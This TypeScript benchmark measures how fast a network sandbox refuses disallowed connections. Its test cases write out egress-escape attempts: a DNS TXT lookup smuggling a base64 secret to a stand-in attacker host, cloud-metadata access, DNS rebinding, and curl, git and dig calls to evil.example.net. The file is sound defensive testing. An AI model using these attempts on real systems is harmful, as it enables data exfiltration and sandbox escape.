/**
 * npm run bench:network: how long a program in a sandbox with allowed hosts waits for each refusal, and for what is
 * allowed. Printed, and judged only at the end: 100 ms is what a refusal may take on a machine that is not busy.
 */
import { availableParallelism, loadavg } from 'node:os'
import { Theatre, whyNoTheatre } from '../fixtures/egress.ts'
import { quantile } from './measure.ts'

const rounds = Number(process.env.BENCH_ROUNDS ?? 20)
const LONGEST_MS = 100
const hosts = ['good.example.org', '*.example.org:443,2222']

const allowed = {
  'fetch https://good.example.org': { kind: 'fetch', url: 'https://good.example.org/' },
  'TCP to an allowed name': { kind: 'tcp', host: 'good.example.org', port: 2222 },
  'a name in mixed case, with a final dot': { kind: 'tcp', host: 'GOOD.Example.Org.', port: 2222 },
  'fetch of an allowed name that has IPv6 only': { kind: 'fetch', url: 'https://six.example.org/' },
  'DNS for an allowed name': { kind: 'dns', name: 'good.example.org' },
}
const refused = {
  'DNS for another name': { kind: 'dns', name: 'evil.example.net' },
  'DNS for a secret in a name, TXT': { kind: 'dns', name: 'c2VjcmV0.evil.example.net', type: 'TXT' },
  'fetch of another name': { kind: 'fetch', url: 'https://evil.example.net/' },
  'fetch by address': { kind: 'fetch', url: 'http://11.0.0.2/' },
  'TCP to an address': { kind: 'tcp', host: '11.0.0.2', port: 443 },
  'TCP to another port of an allowed name': { kind: 'tcp', host: 'also.example.org', port: 80 },
  'TCP to metadata of a cloud': { kind: 'tcp', host: '169.254.169.254', port: 80 },
  'TCP to a private range': { kind: 'tcp', host: '10.9.9.9', port: 443 },
  'an IPv4 address as one of IPv6': { kind: 'tcp', host: '::ffff:11.0.0.2', port: 443 },
  'TCP by IPv6 to a private range': { kind: 'tcp', host: 'fd00:ec2::254', port: 80 },
  'TCP by IPv6': { kind: 'tcp', host: '2001:db8::1', port: 443 },
  'an allowed name that leads to a private range': { kind: 'fetch', url: 'https://rebind.example.org/' },
  'another name server, UDP': { kind: 'dns', name: 'good.example.org', server: '11.0.0.53' },
  'another name server, TCP': { kind: 'tcp', host: '11.0.0.53', port: 53 },
  'UDP (QUIC)': { kind: 'udp', host: '11.0.0.1', port: 443 },
  'UDP by IPv6': { kind: 'udp', host: '2001:db8::1', port: 443 },
  'TLS with the name of another host': { kind: 'tls', host: '11.0.0.1', name: 'evil.example.net' },
  'a broken ClientHello': {
    kind: 'tcp',
    host: '11.0.0.1',
    port: 443,
    say: '\u0016\u0003\u0001\u0000\u0005\u0002\u0000\u0000\u0001x',
  },
}

/** One line each, in milliseconds by the clock of the program; its start is not in it, as Python and the shell see it. */
const python = `
import socket, subprocess, time, urllib.request
def timed(name, act):
    began = time.monotonic()
    try: answer = act() or "done"
    except Exception as error: answer = str(getattr(error, "reason", error))
    print("%s\\t%.1f\\t%s" % (name, (time.monotonic() - began) * 1000, str(answer).replace("\\n", " ")[:60]))
def run(*words):
    got = subprocess.run(words, capture_output=True, text=True)
    return "status %d %s" % (got.returncode, (got.stderr or got.stdout).strip().split("\\n")[-1])
def icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\0", ("11.0.0.2", 0))
timed("Python, another name", lambda: urllib.request.urlopen("http://evil.example.net/"))
timed("Python, an address", lambda: urllib.request.urlopen("http://11.0.0.2/"))
timed("Python, ICMP", icmp)
timed("curl, another name (with its start)", lambda: run("curl", "-sS", "https://evil.example.net/"))
timed("curl, an address (with its start)", lambda: run("curl", "-sS", "https://11.0.0.2/"))
timed("git, another name (with its start)", lambda: run("git", "ls-remote", "https://evil.example.net/repo.git"))
timed("git, an address (with its start)", lambda: run("git", "ls-remote", "https://11.0.0.2/repo.git"))
`
const dig = `
timed("dig, another name (with its start)", lambda: run("dig", "+tries=1", "evil.example.net"))
timed("dig, another name server (with its start)", lambda: run("dig", "+tries=1", "+time=2", "@11.0.0.53", "good.example.org"))
timed("dig, another name server, TCP (with its start)", lambda: run("dig", "+tries=1", "+time=2", "+tcp", "@11.0.0.53", "good.example.org"))
`

interface Line {
  readonly name: string
  readonly times: number[]
  readonly answers: Set<string>
}

const lines = new Map<string, Line>()

function note(name: string, ms: number, answer: string): void {
  const line = lines.get(name) ?? { name, times: [], answers: new Set() }
  lines.set(name, line)
  line.times.push(ms)
  line.answers.add(answer)
}

async function round(theatre: Theatre): Promise<void> {
  const attempts = { ...allowed, ...refused }
  const script = `"$NODE" "$CLIENTS" '${JSON.stringify(attempts)}' timed; command -v dig >/dev/null && DIG='${dig}'; python3 -c '${python}'"$DIG"`
  const { stdout, stderr } = await theatre.play({ hosts, script })
  const [first = '', ...others] = stdout.trim().split('\n')
  if (!first.startsWith('{')) throw new Error(stderr)
  const answers = JSON.parse(first) as Record<string, { answer: string; ms: number }>
  for (const [name, { answer, ms }] of Object.entries(answers)) note(name, ms, answer)
  for (const line of others) {
    const [name = '', ms, answer = ''] = line.split('\t')
    note(name, Number(ms), answer)
  }
}

const why = whyNoTheatre()
if (why !== undefined) throw new Error(why)
await using theatre = await Theatre.open('plain')
for (let count = 0; count < rounds; count++) await round(theatre)
console.log(
  `${rounds} rounds, milliseconds; ${availableParallelism()} processors, load ${loadavg()[0]?.toFixed(1)}\n${'p50'.padStart(8)}${'p95'.padStart(8)}${'max'.padStart(8)}  case: how it ends`,
)
let slowest = 0
for (const { name, times, answers } of lines.values()) {
  const sorted = times.toSorted((a, b) => a - b)
  const p50 = quantile(sorted, 0.5)
  if (!(name in allowed) && !name.includes('with its start')) slowest = Math.max(slowest, p50)
  const figures = [p50, quantile(sorted, 0.95), sorted.at(-1) ?? 0].map((ms) => ms.toFixed(1).padStart(8)).join('')
  console.log(`${figures}  ${name}: ${[...answers].join(' | ')}`)
}
console.log(
  `the slowest refusal takes ${slowest.toFixed(1)} ms (p50), ${slowest < LONGEST_MS ? 'below' : 'above'} ${LONGEST_MS}`,
)
